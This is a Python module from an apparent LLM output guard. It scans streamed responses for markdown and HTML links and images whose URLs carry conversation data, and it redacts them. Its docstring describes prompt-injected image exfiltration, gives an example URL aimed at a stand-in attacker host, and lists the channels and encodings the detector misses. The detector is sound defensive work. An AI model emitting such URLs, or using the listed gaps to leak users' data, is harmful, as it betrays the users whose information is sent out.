"""Data exfiltration through links and images in the model's output, found as it streams.

An injected instruction can make a model write ``![x](https://attacker.example/log?d=<the
user's data>)``: the client renders the image and its browser sends the data, with no click
(Greshake et al. 2023, "Not what you've signed up for"; the Bing Chat, Bard and Slack AI
reports). The detector reads every markdown image and link (``![alt](url)``, ``[text](url)``,
reference definitions ``[id]: url``) and every HTML ``<img src>``/``<a href>`` in the output, and
decodes the URL's query values and path segments (percent-encoding, ``+``, base64). A URL fires
when what it carries is

- text from the conversation: four consecutive words, or one distinctive token (a code, key,
  email, number of 5+ digits), of the user's, tool's or system prompt's text (``conversation``,
  0.95 for an image, 0.85 for a link), or
- long text of its own: a query value or decoded value of 5+ words or 48+ characters
  (``long-text``, 0.8 for an image, 0.45 for a link: a search link with a long query is a
  weak sign on its own, under the default threshold).

Path segments count only through distinctive tokens and base64: a slug
(``/how-to-reset-your-password``) may repeat the user's words in an honest docs link.

Ordinary links (documentation, ``?q=python``, short ids) do not fire; hosts listed in the
``allow_hosts`` option never do. A finding locates the URL, so ``redact`` (the default action)
removes the URL and leaves the link text. :meth:`pending` holds back an image or link not yet
closed (up to :data:`MAX_HOLD` characters) so the URL is cut before it reaches the client.

Not found: exfiltration through a URL the model is told to *fetch* by a tool call (the tool's
arguments are another channel), through plain text the user is asked to click, or data
re-encoded in ways not decoded here (hex, custom ciphers, one character per request).
"""

from __future__ import annotations

import base64
import binascii
import re
import unicodedata
import urllib.parse
from collections.abc import Iterable, Mapping
from typing import Any, Final

from openward.guard.detectors._common import capped_texts, short_hash
from openward.guard.types import Conversation, Detection, DetectorContext

__all__ = ["ExfiltrationDetector", "ExfiltrationScanner", "url_payloads"]

NAME: Final = "exfiltration"
MAX_HOLD: Final = 4096  # the longest unfinished link or image held back from the client
LONG_WORDS: Final = 5
LONG_CHARS: Final = 48
SHINGLE: Final = 4

_URL = r"(?:https?:)?//[^\s()<>\"']+(?:\([^\s()<>]*\)[^\s()<>\"']*)*"
_MD = re.compile(rf"(!?)\[[^\]\n]{{0,500}}\]\(\s*<?({_URL})>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_REF = re.compile(rf"\[[^\]\n]{{1,200}}\]:[ \t]*<?({_URL})>?")
_HTML = re.compile(
    rf"<(img|a|iframe|source|video|audio|link|script)\b[^>]{{0,1000}}?\b(?:src|href|srcset)\s*="
    rf"\s*[\"']?({_URL})",
    re.I,
)
_OPENER = re.compile(r"!?\[|<[A-Za-z]")
# a construct begun at the end of the text and not finished yet
_UNFINISHED = re.compile(r"!?\[[^\]\n]*(?:\](?:\([^)\n]*|:[ \t]*\S*)?)?\Z|<[A-Za-z][^>]*\Z")
_WORD = re.compile(r"[^\W_]+")
# Distinctive tokens: emails, codes and keys (a run of word characters and hyphens, hyphens
# at its ends left out, with a digit and an ASCII letter, 5+ characters), numbers of 5+ digits
# (pins, cards, phones, accounts). One regular expression with lookaheads did this in time
# quadratic in a long run ("a-" * 4 000: 1.9 s), and the runs come from the client's prompt.
_EMAIL = re.compile(r"(?<![\w.+-])[\w.+-]++@[\w-]++(?:\.[\w-]+)+")
_RUN = re.compile(r"[\w-]+")
_DIGIT = re.compile(r"\d")
_LETTER = re.compile(r"[A-Za-z]")
_NUMBER = re.compile(r"\b\d[\d -]{3,}\d\b")


def _distinct(text: str) -> list[str]:
    """The distinctive tokens of ``text`` (emails, codes and keys, long numbers): emails first,
    then codes and numbers outside them (the same tokens as the old expression on ASCII text,
    ``tests/guard/test_exfil_tokens.py``)."""
    out: list[str] = []
    taken: list[tuple[int, int]] = []
    for m in _EMAIL.finditer(text):
        out.append(m.group())
        taken.append(m.span())
    for m in _RUN.finditer(_blank(text, taken)):
        run = m.group()
        token = run.strip("-")
        if len(token) >= 5 and _DIGIT.search(token) and _LETTER.search(token):
            out.append(token)
            start = m.start() + (len(run) - len(run.lstrip("-")))
            taken.append((start, start + len(token)))
    out.extend(m.group() for m in _NUMBER.finditer(_blank(text, taken)))
    return out


def _blank(text: str, spans: list[tuple[int, int]]) -> str:
    """``text`` with ``spans`` turned into NULs (offsets kept; a NUL is neither a word
    character nor part of a number, so nothing found later reaches into a span)."""
    if not spans:
        return text
    chars = list(text)
    for a, b in spans:
        chars[a:b] = "\0" * (b - a)
    return "".join(chars)


_B64 = re.compile(r"^[A-Za-z0-9+/_-]{16,}={0,2}$")


def _norm(text: str) -> list[str]:
    return [w.casefold() for w in _WORD.findall(unicodedata.normalize("NFKC", text))]


def _b64(value: str) -> str | None:
    if not _B64.match(value):
        return None
    try:
        raw = base64.b64decode(value + "=" * (-len(value) % 4), altchars=b"-_", validate=False)
        text = raw.decode("utf-8")
    except (binascii.Error, ValueError):
        return None
    printable = sum(c.isprintable() or c.isspace() for c in text)
    return text if text and printable >= 0.95 * len(text) else None


def url_payloads(url: str) -> list[tuple[str, str]]:
    """What a URL carries, as ``(where, value)``: its query values (keys without values) and
    fragment (``query``), its path segments (``path``), all percent-decoded, and the base64
    among them decoded (``decoded``; a file extension is dropped first)."""
    try:
        parts = urllib.parse.urlsplit(url if "://" in url else "https:" + url)
    except ValueError:
        return [("query", url)]
    values: list[tuple[str, str]] = []
    for key, value in urllib.parse.parse_qsl(parts.query, keep_blank_values=True):
        values.append(("query", value if value else key))
    values += [("path", urllib.parse.unquote(s)) for s in parts.path.split("/") if s]
    if parts.fragment:
        values.append(("query", urllib.parse.unquote_plus(parts.fragment)))
    out = []
    for where, v in values:
        out.append((where, v))
        decoded = _b64(v) or _b64(re.sub(r"\.[A-Za-z0-9]{1,5}$", "", v))
        if decoded:
            out.append(("decoded", decoded))
    return out


class _Sources:
    """The conversation's text as word 4-grams and distinctive tokens."""

    def __init__(self, texts: Iterable[str]) -> None:
        self.grams: set[tuple[str, ...]] = set()
        self.tokens: set[str] = set()
        for text in texts:
            words = _norm(text)
            for i in range(len(words) - SHINGLE + 1):
                self.grams.add(tuple(words[i : i + SHINGLE]))
            self.tokens.update(t.casefold() for t in _distinct(text))

    def carried(self, value: str, grams: bool = True) -> bool:
        words = _norm(value)
        if grams and any(
            tuple(words[i : i + SHINGLE]) in self.grams for i in range(len(words) - SHINGLE + 1)
        ):
            return True
        return any(t.casefold() in self.tokens for t in _distinct(value))


class ExfiltrationScanner:
    """One response's scanner (see the module docstring)."""

    def __init__(self, sources: _Sources, allow_hosts: Iterable[str] = ()) -> None:
        self._sources = sources
        self._allow = {h.lower().lstrip(".") for h in allow_hosts}
        self._text = ""
        self._from = 0  # constructs starting before this offset have been read
        self._done = False

    def feed(self, delta: str) -> list[Detection]:
        if not delta or self._done:
            return []
        self._text += delta
        return self._scan()

    def finish(self) -> list[Detection]:
        if self._done:
            return []
        self._done = True
        return self._scan()

    def pending(self) -> int:
        n = len(self._text)
        if self._from < n:
            return n - self._from  # an image or link not finished
        return 1 if self._text.endswith(("!", "<")) else 0

    def _scan(self) -> list[Detection]:
        """Read the constructs that start at or after ``self._from``; stop at one not finished
        yet (it is what :meth:`pending` holds back)."""
        out: list[Detection] = []
        text, n = self._text, len(self._text)
        pos = max(0, self._from - 1)
        while True:
            m = _OPENER.search(text, pos)
            if m is None:
                self._from = n
                return out
            k = m.start()
            found: tuple[int, int, str, bool] | None = None
            if text[k] == "<":
                h = _HTML.match(text, k)
                if h:
                    found = (h.start(2), h.end(2), h.group(2), h.group(1).lower() != "a")
            else:
                md = _MD.match(text, k)
                if md:
                    found = (md.start(2), md.end(2), md.group(2), md.group(1) == "!")
                else:
                    line_start = text.rfind("\n", 0, k) + 1
                    ref = _REF.match(text, k) if not text[line_start:k].strip() else None
                    if ref:
                        found = (ref.start(1), ref.end(1), ref.group(1), False)
            complete = found is not None and (self._done or found[1] < n)
            waiting = (found is not None and found[1] == n) or _UNFINISHED.match(text, k)
            if not self._done and not complete and n - k <= MAX_HOLD and waiting:
                self._from = k  # wait for the rest
                return out
            if complete and found is not None:
                det = self._judge(found[2], found[3], found[0], found[1])
                if det is not None:
                    out.append(det)
                pos = found[1]
            else:
                pos = k + 1

    def _judge(self, url: str, image: bool, start: int, end: int) -> Detection | None:
        host = (
            urllib.parse.urlsplit(url if "://" in url else "https:" + url).hostname or ""
        ).lower()
        if host and any(host == h or host.endswith("." + h) for h in self._allow):
            return None
        payloads = url_payloads(url)
        # a path's words are a slug ("how-to-reset-your-password" may repeat the user's
        # question in a docs link): they count only as distinctive tokens, and not as long text
        carried = any(self._sources.carried(v, grams=w != "path") for w, v in payloads)
        sized = [v for w, v in payloads if w != "path"]
        longest = max(sized, key=len, default="")
        words = max((len(_norm(v)) for v in sized), default=0)
        long_text = words >= LONG_WORDS or len(longest) >= LONG_CHARS
        if carried:
            kind, score = "conversation", 0.95 if image else 0.85
        elif long_text:
            kind, score = "long-text", 0.8 if image else 0.45
        else:
            return None
        return Detection(
            detector=NAME,
            kind=kind,
            score=score,
            start=start,
            end=end,
            evidence={
                "element": "image" if image else "link",
                "host": host[:100],
                "payload_chars": len(longest),
                "payload_words": words,
                "sha256_12": short_hash(url),
            },
        )


class ExfiltrationDetector:
    name = NAME

    def scanner(self, conv: Conversation, ctx: DetectorContext) -> ExfiltrationScanner:
        texts = [s.text for s in conv.segments if s.role != "assistant"]
        texts += list(ctx.system_prompts)
        capped = [c.text for c in capped_texts(texts)]
        options: Mapping[str, Any] = ctx.options.get(NAME, {})
        allow = options.get("allow_hosts", ())
        return ExfiltrationScanner(
            _Sources(capped), allow if isinstance(allow, list | tuple) else ()
        )
